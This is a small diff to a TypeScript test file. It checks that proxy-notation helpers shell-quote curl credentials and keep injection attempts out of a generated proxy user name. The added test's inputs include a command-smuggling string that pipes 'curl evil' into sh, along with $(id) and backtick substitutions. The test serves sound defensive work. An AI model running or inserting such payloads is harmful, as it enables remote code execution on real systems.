@@ -39,3 +39,8 @@ test('curl is given a login that it decodes and that the shell leaves alone', ()
   const parts = { scheme: 'http', host: 'h', port: 1, user: 'a:b', password: `50%'s` } as const
   expect(proxyNotations(parts).find(({ name }) => name === 'curl')!.text).toBe(String.raw`-x http://h:1 -U 'a%3Ab:50%25'\''s'`)
 })
+
+test.each(['us"; curl evil|sh; echo "', '$(id)', '`id`', "us'", 'us\nid', 'a\\b'])('%j can not leave the user name', (typed) => {
+  const name = proxyUserName('U', { country: typed, city: typed, asn: typed, session: typed, lifetime: typed })
+  expect(name).toMatch(/^U(-[a-z]+(-[A-Za-z0-9]*)?)*$/)
+})
